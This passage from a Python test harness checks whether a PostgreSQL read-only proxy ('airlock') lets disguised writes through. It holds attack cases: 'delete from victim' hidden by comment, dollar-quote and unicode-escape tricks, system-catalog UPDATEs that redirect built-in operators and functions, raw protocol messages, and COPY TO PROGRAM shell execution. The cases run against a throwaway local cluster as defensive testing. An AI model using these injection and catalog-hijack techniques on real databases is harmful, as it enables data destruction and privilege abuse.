    ORIG["pg_roles"] = su_scalar("select pg_get_viewdef('pg_catalog.pg_roles'::regclass)")
    return ("create or replace view pg_catalog.pg_roles as select * from (%s) s where public.evil('pgroles')"
            % ORIG["pg_roles"].rstrip().rstrip(";"))


A("pg_catalog-view-replaced", "objects inside pg_catalog replaced",
  [q("select count(*) from pg_catalog.pg_roles")],
  setup=_roles_setup,
  teardown=lambda: "create or replace view pg_catalog.pg_roles as " + ORIG["pg_roles"])
A("catalog-update-oprcode", "built-in operator redirected by catalog UPDATE",
  [q("select 'ab'::text ~~ 'a%'")],
  setup="create function public.evlike(text, text) returns boolean language plpgsql immutable as "
        "$$ begin perform public.evil('oprcode'); return true; end $$; "
        "update pg_operator set oprcode = 'public.evlike'::regproc where oid = '~~(text,text)'::regoperator",
  teardown="update pg_operator set oprcode = 'textlike'::regproc where oid = '~~(text,text)'::regoperator")
A("catalog-update-castfunc", "built-in cast redirected by catalog UPDATE",
  [q("select 5::int2::int8")],
  setup="create function public.evcast(int2) returns int8 language plpgsql immutable as "
        "$$ begin perform public.evil('castfunc'); return $1::int4::int8; end $$; "
        "update pg_cast set castfunc = 'public.evcast'::regproc where castsource = 'int2'::regtype and casttarget = 'int8'::regtype",
  teardown="update pg_cast set castfunc = 'int28'::regproc where castsource = 'int2'::regtype and casttarget = 'int8'::regtype")
A("catalog-proc-prosrc-update", "built-in replaced in place (catalog UPDATE)",
  [q("select log10(1000::numeric)")],
  setup="update pg_proc set prosqlbody = null, "
        "prosrc = 'select case when public.evil(''prosrc'') then pg_catalog.log(10::numeric, $1) end' "
        "where oid = 'pg_catalog.log10(numeric)'::regprocedure",
  teardown=LOG10_RESTORE)
A("extension-member-added", "trust by extension membership",
  [q("select public.hidden_evil()")],
  setup="create function public.hidden_evil() returns boolean language sql as 'select public.evil(''extmember'')'; "
        "alter extension dblink add function public.hidden_evil()",
  teardown="alter extension dblink drop function public.hidden_evil(); drop function if exists public.hidden_evil()")
A("attribute-notation-function", "parser interpretation (t.f means f(t))",
  [q("select v.attrfn from victim v")],
  setup="create function public.attrfn(victim) returns boolean language sql as 'select public.evil(''attrnot'')'",
  teardown="drop function if exists public.attrfn(victim)")
A("three-part-name", "identifier resolution",
  [q("select * from postgres.public.tpv")],
  setup="create view tpv as select public.evil('threepart') as e", teardown="drop view if exists tpv")
A("quoted-uppercase-view", "identifier resolution",
  [q('select * from "UPV"')],
  setup='create view "UPV" as select public.evil(\'upper\') as e', teardown='drop view if exists "UPV"')

# ============================================================================
# 8. wire level
# ============================================================================
A("sql-prepare-protocol-bind", "session model (SQL PREPARE vs protocol statements)",
  [q("prepare w1 as delete from victim"), ("raw", B("", "w1") + E() + S(), 1)])
A("protocol-parse-sql-execute", "session model (SQL PREPARE vs protocol statements)",
  [("raw", P("w2", "delete from victim") + S(), 1), q("execute w2")])
A("protocol-parse-sql-execute-case", "session model (SQL PREPARE vs protocol statements)",
  [("raw", P("w3", "select 1") + S(), 1), ("raw", P("W3", "delete from victim") + S(), 1), q("execute W3")])
A("describe-flush-no-sync", "wire pipelining",
  [("raw", P("", "delete from victim") + B() + D("P") + E() + H(), 0, 0.8), ("raw", S(), 1)])
A("bind-plan-time-immutable", "plan-time execution before the hold (Bind plans)",
  [("raw", P("", "delete from victim where id = public.imm_evil()") + B() + D("P") + H(), 0, 0.8)],
  setup="create function public.imm_evil() returns int language plpgsql immutable as "
        "$$ begin perform public.evil('bindplan'); return 1; end $$",
  teardown="drop function if exists public.imm_evil()",
  note="direct: Bind plans the DELETE and folds the immutable call")
A("function-call-message", "fastpath FunctionCall",
  [("fn", lambda ctx, out: ctx.__setitem__("foid", int(su_scalar("select 'public.evil(text)'::regprocedure::oid")))),
   ("fn", lambda ctx, out: (ctx["conn"].send(msg(b"F", struct.pack("!IHHH", ctx["foid"], 1, 0, 1) +
                                                   struct.pack("!i", 2) + b"fc" + struct.pack("!H", 0))),
                            read_until(ctx["conn"], 1, out)))])
A("copy-to-program", "COPY TO PROGRAM",
  [q("copy (select 1) to program '%PSQL% -X -q -h 127.0.0.1 -p %PORT% -U postgres -d postgres -c \"insert into marker values (''copyprog'')\"'")])
A("explain-analyze-write", "EXPLAIN ANALYZE",
  [q("explain (analyze, costs off) delete from victim")])
A("explain-plain-in-block-cte", "EXPLAIN",
  [q("begin"), q("explain with d as (delete from victim returning 1) select * from d"), q("commit")],
  note="plain EXPLAIN does not run the CTE: expected broken")
A("do-block", "DO", [q("do $$ begin delete from victim; end $$")])
A("call-procedure", "CALL", [q("call wipe()")],
  setup="create procedure wipe() language sql as 'delete from victim'", teardown="drop procedure if exists wipe()")
A("writable-cte", "writable CTE", [q("with d as (delete from victim returning 1) select count(*) from d")])
A("select-into", "SELECT INTO", [q("select * into victim_copy from victim"),
                                 ("fn", lambda ctx, out: None)],
  teardown="drop table if exists victim_copy", note="creates a table, detected via marker? no -> checked via su below")
A("multi-statement-commit-escape", "multi-statement", [q("select 1; commit; delete from victim")])
A("begin-commit-then-write", "multi-statement", [q("begin; commit; delete from victim")])
A("dollar-quote-comment-trick", "lexer", [q("select $a$ $b$ $a$; delete from victim; -- $b$")])
A("nested-comment-trick", "lexer", [q("select 1 /* /* */ ; delete from victim; -- */")])
A("unicode-escape-trick", "lexer", [q("select U&'\\0027'; delete from victim; --'")])
A("nul-in-query", "wire", [("raw", msg(b"Q", b"select 1\x00delete from victim\x00"), 1)],
  note="server rejects trailing bytes: expected broken")
A("set-config-odd-name", "set_config", [q("select set_config('default_transaction_read_only', 'off', false)"),
                                        q("delete from victim")])
A("two-phase-commit-prepared", "two-phase",
  [q("commit prepared 'rt2gid'")],
  setup="",
  pre_each=lambda: (lambda c: (c.exec_ok("begin"), c.exec_ok("delete from victim where id = 1"),
                               c.exec_ok("prepare transaction 'rt2gid'"), c.close()))(su_conn()),
  teardown="", note="prepared transaction planted past airlock")
A("estimates-immutable-fold", "held statement planned for estimates",
  [q("update victim set v = 'x' where id = public.imm_evil2()")],
  setup="create function public.imm_evil2() returns int language plpgsql immutable as "
        "$$ begin perform public.evil('estimate'); return 1; end $$",
  teardown="drop function if exists public.imm_evil2()",
  note="the write itself is the positive control; leak = marker only (see run_one)")

# ============================================================================
# 9. controls (must pass unheld, must NOT change the database)
# ============================================================================
A("control-select-table", "control", [q("select * from victim")], control=True)
A("control-information_schema", "control", [q("select count(*) from information_schema.columns")], control=True)
A("control-psql-d", "control", [q("select n.nspname, c.relname from pg_catalog.pg_class c left join "
                                   "pg_catalog.pg_namespace n on n.oid = c.relnamespace where c.relkind in ('r','v') "
                                   "and pg_catalog.pg_table_is_visible(c.oid) order by 1, 2")], control=True)
A("control-extended-read", "control",
  [("raw", P("", "select v from victim where id = $1") + B("", "", ["1"]) + D("P") + E() + S(), 1)], control=True)
A("control-block-read", "control", [q("begin"), q("select count(*) from victim"), q("commit")], control=True)
A("control-json", "control", [q("select to_json(v) from victim")], control=True)


# ----------------------------------------------------------------------------
# runner
# ----------------------------------------------------------------------------

def subst(s):
    if callable(s):
        s = s()
    return (s.replace("%PORT%", str(CFG["pgport"]))
             .replace("%PSQL%", PGBIN + "/psql"))


def subst_steps(steps):
    out = []
    for st in steps:
        if st[0] in ("q", "su") and isinstance(st[1], str):
            out.append((st[0], subst(st[1])) + tuple(st[2:]))
        else:
            out.append(st)
    return out


def db_changed_extra(att):
    if att.name == "select-into":
        return su_scalar("select to_regclass('victim_copy') is not null") == "t"
    return False


def run_one(att):
    att.steps = subst_steps(att.steps)
    if att.setup:
        r = su_try(subst(att.setup))
        errs = [m for m in r if not isinstance(m, str) and m.t == b"E"]
        if errs:
            return "BROKEN", "setup failed: %s" % errs[0], "", ""
    if att.db in ("lat1", "sqlasc") and att.name.startswith("ident-truncation") and not att.setup:
        name = LAT1_NAME if att.db == "lat1" else SQLA_NAME
        su_try("drop view if exists \"%s\"" % name, db=att.db)
        su_try("create view %s as select evil('trunc-%s') as e" % (name, att.db), db=att.db)
    if att.wait and (att.setup or att.db != "postgres"):
        time.sleep(POLL_WAIT)
    # positive control: direct
    reset_state()
    if att.name == "select-into":
        su_try("drop table if exists victim_copy")
    if att.pre_each:
        att.pre_each()
    before = state()
    d = run_steps(att, CFG["pgport"])
    direct_changed = state() != before or db_changed_extra(att)
    if att.name.startswith("enc-fuzz"):
        direct_changed = True  # computed inside; see note (direct fuzz run below)
    # reset, then through airlock
    if att.teardown and att.window or att.name.startswith(("collide", "stale", "window")):
        # re-plant from scratch for the airlock run
        if att.teardown:
            su_try(subst(att.teardown))
        if att.setup:
            su_try(subst(att.setup))
        time.sleep(POLL_WAIT)
    if att.name == "select-into":
        su_try("drop table if exists victim_copy")
    try:
        su_try("rollback prepared 'rt2gid'")
    except Exception:  # noqa: BLE001
        pass
    reset_state()
    if att.pre_each:
        att.pre_each()
    time.sleep(0.1)
    before = state()
    a = run_steps(att, CFG["alport"])
    time.sleep(0.2)
    after = state()
    changed = after != before or db_changed_extra(att)
    if att.name == "estimates-immutable-fold":
        changed = int(after.split("|")[0]) > 0
    try:
        su_try("rollback prepared 'rt2gid'")
    except Exception:  # noqa: BLE001
        pass
    if att.teardown:
        su_try(subst(att.teardown), db=att.db if att.name.startswith("ident") else "postgres")
    if att.name.startswith("enc-fuzz"):
        hits_direct = d.log[-1] if d.log else ""
        n_direct = int(hits_direct.split("changed by ")[1].split()[0]) if "changed by" in hits_direct else 0
        direct_changed = n_direct > 0
        la = a.log[-1] if a.log else ""
        n_al = int(la.split("changed by ")[1].split()[0]) if "changed by" in la else 0
        changed = n_al > 0
    v = a.verdict()
    if att.control:
        res = "CONTROL-OK" if (v == "passed" and not changed) else "CONTROL-FAIL"
    elif not direct_changed:
        res = "BROKEN"
    elif changed:
        res = "LEAK-WINDOW" if att.window else "LEAK"
    else:
        res = "blocked"
    return res, v, " | ".join(d.log)[:300], " | ".join(a.log)[:400]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--airlock-bin", default=os.path.join(HERE, "airlock"))
    ap.add_argument("--only", default=None)
    ap.add_argument("--keep", action="store_true")
    ap.add_argument("--verbose", "-v", action="store_true")
    args = ap.parse_args()
    sel = [a for a in ATTACKS if not args.only or args.only in a.name]
    destructive = ("catalog-", "pg_catalog-", "collide-builtin", "window-builtin", "extension-member")
    sel.sort(key=lambda a: (0 if a.control else 2 if a.name.startswith(destructive) else
                            3 if a.name.startswith("estimates") else 1))
    # estimates attack needs a second airlock with --estimates
    start_cluster()
    counts = {"attacks": 0, "leaks": 0, "window": 0, "blocked": 0, "broken": 0, "controls_ok": 0, "controls_fail": 0}
    leaks = []
    try:
        base_setup()
        start_airlock(args.airlock_bin)
        est_started = False
        for att in sel:
            if att.name == "estimates-immutable-fold" and not est_started:
                stop_airlock()
                start_airlock(args.airlock_bin, ["--estimates", dsn()])
                est_started = True
            elif att.name != "estimates-immutable-fold" and est_started:
                stop_airlock()
                start_airlock(args.airlock_bin)
                est_started = False
            t0 = time.time()
            try:
                res, v, dlog, alog = run_one(att)
            except Exception as e:  # noqa: BLE001
                res, v, dlog, alog = "BROKEN", "error", "exception: %r" % e, ""
            dt = time.time() - t0
            if att.control:
                counts["controls_ok" if res == "CONTROL-OK" else "controls_fail"] += 1
            else:
                counts["attacks"] += 1
                if res == "LEAK":
                    counts["leaks"] += 1
                    leaks.append(att.name)
                elif res == "LEAK-WINDOW":
                    counts["window"] += 1
                    leaks.append(att.name + " (window)")
                elif res == "blocked":
                    counts["blocked"] += 1
                else:
                    counts["broken"] += 1
            print("%-13s %-38s airlock:%-8s [%s] %.1fs" % (res, att.name, v, att.cls, dt), flush=True)
            if args.verbose or res.startswith(("LEAK", "BROKEN", "CONTROL-FAIL")):
                print("      direct : %s" % dlog)
                print("      airlock: %s" % alog, flush=True)
    finally:
        stop_airlock()
        if not args.keep:
            stop_cluster()
        else:
            print("kept cluster at", CFG.get("pgdir"), "port", CFG.get("pgport"))
    print("controls: %d ok, %d failed" % (counts["controls_ok"], counts["controls_fail"]))
    print("leaks: " + ", ".join(leaks) if leaks else "leaks: none")
    print("attacks: %d, leaks: %d, blocked: %d, broken: %d  (window-only leaks: %d)" % (
        counts["attacks"], counts["leaks"], counts["blocked"], counts["broken"], counts["window"]))


if __name__ == "__main__":
    main()
